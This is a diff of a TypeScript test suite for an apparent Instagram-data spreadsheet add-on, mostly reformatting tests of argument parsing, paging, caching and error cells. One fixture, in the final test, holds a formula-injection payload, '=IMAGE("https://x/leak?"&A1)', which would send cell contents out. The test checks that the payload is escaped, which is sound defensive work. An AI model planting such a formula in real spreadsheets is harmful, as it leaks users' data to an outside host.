@@ -13,7 +13,8 @@ import { cellsOf, entered } from '../src/engine/values';
 import { KEY, POSTS, fakeDeps } from './fakes';
 
 const column = (values: unknown[]) => values.map((v) => [v]);
-const run = (deps: ReturnType<typeof fakeDeps>, id: string, ...args: unknown[]) => evaluateFormula(id, args, () => deps);
+const run = (deps: ReturnType<typeof fakeDeps>, id: string, ...args: unknown[]) =>
+  evaluateFormula(id, args, () => deps);
 
 describe('arguments', () => {
   test('a target left out fails with a message naming the argument (never a silent blank)', () => {
@@ -26,34 +27,56 @@ describe('arguments', () => {
 
   test('a blank target cell is a blank row, not an error', () => {
     expect(run(fakeDeps(), 'profile', '', 'followers')).toBe('');
-    expect(run(fakeDeps(), 'profile', column(['nasa', '', 'natgeo']), 'followers')).toEqual([[97400000], [''], [283000000]]);
+    expect(run(fakeDeps(), 'profile', column(['nasa', '', 'natgeo']), 'followers')).toEqual([
+      [97400000],
+      [''],
+      [283000000],
+    ]);
   });
 
   test('too many arguments, and a range where one value is expected, name the argument', () => {
     const profile = getEndpoint('profile');
-    expect(() => parseArgs(profile, ['nasa', 'followers', false, false, 'extra'])).toThrow(/^arguments must be at most 4 \(handle, fields, header, refresh\)/);
-    expect(() => parseArgs(profile, ['nasa', 'followers', [[true], [false]]])).toThrow(/^header must be a single value, not a range/);
+    expect(() => parseArgs(profile, ['nasa', 'followers', false, false, 'extra'])).toThrow(
+      /^arguments must be at most 4 \(handle, fields, header, refresh\)/,
+    );
+    expect(() => parseArgs(profile, ['nasa', 'followers', [[true], [false]]])).toThrow(
+      /^header must be a single value, not a range/,
+    );
   });
 });
 
 describe('header default', () => {
   test('one target with several fields gets a header; one field stays a bare value', () => {
     const deps = fakeDeps();
-    expect(run(deps, 'profile', 'nasa', 'followers,following')).toEqual([['followers', 'following'], [97400000, 82]]);
+    expect(run(deps, 'profile', 'nasa', 'followers,following')).toEqual([
+      ['followers', 'following'],
+      [97400000, 82],
+    ]);
     expect(run(deps, 'profile', 'nasa', 'followers')).toBe(97400000);
     expect(run(deps, 'profile', 'nasa', 'followers,following', false)).toEqual([[97400000, 82]]);
   });
 
   test('a range keeps its rows aligned with the input: no header unless asked', () => {
     const deps = fakeDeps();
-    expect(run(deps, 'profile', column(['nasa', 'natgeo']), 'username,followers')).toEqual([['nasa', 97400000], ['natgeo', 283000000]]);
-    expect(run(deps, 'profile', column(['nasa']), 'username,followers', true)).toEqual([['username', 'followers'], ['nasa', 97400000]]);
+    expect(run(deps, 'profile', column(['nasa', 'natgeo']), 'username,followers')).toEqual([
+      ['nasa', 97400000],
+      ['natgeo', 283000000],
+    ]);
+    expect(run(deps, 'profile', column(['nasa']), 'username,followers', true)).toEqual([
+      ['username', 'followers'],
+      ['nasa', 97400000],
+    ]);
   });
 });
 
 describe('runs against the injected client and store', () => {
-  test('the field _error holds a failed lookup\'s code beside its sentence, blank for an answer', () => {
-    const out = run(fakeDeps(), 'profile', column(['nasa', 'nobody_1', 'bad handle!']), 'followers,_error') as unknown[][];
+  test("the field _error holds a failed lookup's code beside its sentence, blank for an answer", () => {
+    const out = run(
+      fakeDeps(),
+      'profile',
+      column(['nasa', 'nobody_1', 'bad handle!']),
+      'followers,_error',
+    ) as unknown[][];
     expect(out[0]).toEqual([97400000, '']);
     expect(out[1]).toEqual([expect.stringMatching(/^@nobody_1 has no public data/), 'not_found']);
     expect(out[2]).toEqual([expect.stringMatching(/^handle must be/), 'invalid_input']);
@@ -74,7 +97,7 @@ describe('runs against the injected client and store', () => {
     expect([...deps.cache.items.keys()].every((k) => k.startsWith('igd1:') && !k.includes(KEY))).toBe(true);
   });
 
-  test('an empty page with a next cursor is not the end of the list (core\'s paging rule)', () => {
+  test("an empty page with a next cursor is not the end of the list (core's paging rule)", () => {
     const deps = fakeDeps();
     const out = run(deps, 'profile/posts', 'natgeo', 'shortcode', false, 5) as unknown[][];
     expect(out.map((r) => r[0])).toEqual(['natgeo0', 'natgeo1', 'natgeo2', 'natgeo3', 'natgeo4']);
@@ -87,7 +110,12 @@ describe('runs against the injected client and store', () => {
     const calls = uniqueCalls(['nasa', 'nike'].map((h) => planRow(posts, 'handle', {}, h)));
     const r = runCalls(posts, calls, deps, { deadline: Date.now() + 10000, refresh: false, limit: 20 });
     expect(deps.svc.batches).toEqual([2, 2]);
-    expect(deps.svc.sent).toEqual(['profile/posts?handle=nasa', 'profile/posts?handle=nike', 'profile/posts?cursor=12&handle=nasa', 'profile/posts?cursor=12&handle=nike']);
+    expect(deps.svc.sent).toEqual([
+      'profile/posts?handle=nasa',
+      'profile/posts?handle=nike',
+      'profile/posts?cursor=12&handle=nasa',
+      'profile/posts?cursor=12&handle=nike',
+    ]);
     expect([...r.results.values()].map((t) => t.items.length)).toEqual([20, 20]);
     expect(r).toMatchObject({ credits: 8, requests: 4, fromStore: [] });
     // Without a limit: the first page only. With more than the list holds: to its end.
@@ -108,22 +136,64 @@ describe('runs against the injected client and store', () => {
     const deps = fakeDeps();
     const profile = getEndpoint('profile');
     const calls = uniqueCalls(['nasa', 'natgeo', 'nobody_2'].map((h) => planRow(profile, 'handle', {}, h)));
-    expect(fetchMany(calls, deps, { deadline: Date.now() + 1000 }).stats).toMatchObject({ unique: 3, requests: 3, cacheHits: 0, credits: 3 });
-    expect(fetchMany(calls, deps, { deadline: Date.now() + 1000 }).stats).toMatchObject({ unique: 3, requests: 0, cacheHits: 3, credits: 0 });
+    expect(fetchMany(calls, deps, { deadline: Date.now() + 1000 }).stats).toMatchObject({
+      unique: 3,
+      requests: 3,
+      cacheHits: 0,
+      credits: 3,
+    });
+    expect(fetchMany(calls, deps, { deadline: Date.now() + 1000 }).stats).toMatchObject({
+      unique: 3,
+      requests: 0,
+      cacheHits: 3,
+      credits: 0,
+    });
   });
 
   test('a wrong key answers where to set it, in the cell', () => {
     const deps = fakeDeps();
     deps.client.config.apiKey = 'sk_wrong';
-    expect(run(deps, 'profile', 'nasa', 'followers')).toBe('Invalid API key. Set it in Extensions > IG Data > Settings. (Not charged.)');
+    expect(run(deps, 'profile', 'nasa', 'followers')).toBe(
+      'Invalid API key. Set it in Extensions > IG Data > Settings. (Not charged.)',
+    );
   });
 });
 
 test('a value for a sheet write: every non-empty string quote-prefixed (none in a plain-text cell), ids as text, ISO *_at as dates, numbers as numbers', () => {
-  const item = { id: 17841405, owner_pk: 12, username: '0012345', bio: '=IMAGE("https://x/leak?"&A1)', taken_at: '2026-01-05T10:00:00Z', day: '2026-01-05', followers: 12, ok: true, none: null };
+  const item = {
+    id: 17841405,
+    owner_pk: 12,
+    username: '0012345',
+    bio: '=IMAGE("https://x/leak?"&A1)',
+    taken_at: '2026-01-05T10:00:00Z',
+    day: '2026-01-05',
+    followers: 12,
+    ok: true,
+    none: null,
+  };
   const cells = cellsOf(item, ['id', 'owner_pk', 'username', 'bio', 'taken_at', 'day', 'followers', 'ok', 'none']);
-  expect(cells).toEqual(['17841405', '12', '0012345', '=IMAGE("https://x/leak?"&A1)', new Date('2026-01-05T10:00:00Z'), '2026-01-05', 12, true, '']);
-  expect(cells.map((c) => entered(c, false))).toEqual(["'17841405", "'12", "'0012345", '\'=IMAGE("https://x/leak?"&A1)', new Date('2026-01-05T10:00:00Z'), "'2026-01-05", 12, true, '']);
+  expect(cells).toEqual([
+    '17841405',
+    '12',
+    '0012345',
+    '=IMAGE("https://x/leak?"&A1)',
+    new Date('2026-01-05T10:00:00Z'),
+    '2026-01-05',
+    12,
+    true,
+    '',
+  ]);
+  expect(cells.map((c) => entered(c, false))).toEqual([
+    "'17841405",
+    "'12",
+    "'0012345",
+    '\'=IMAGE("https://x/leak?"&A1)',
+    new Date('2026-01-05T10:00:00Z'),
+    "'2026-01-05",
+    12,
+    true,
+    '',
+  ]);
   expect(entered("'x", false)).toBe("''x");
   expect(entered('=1+1', true)).toBe('=1+1');
 });
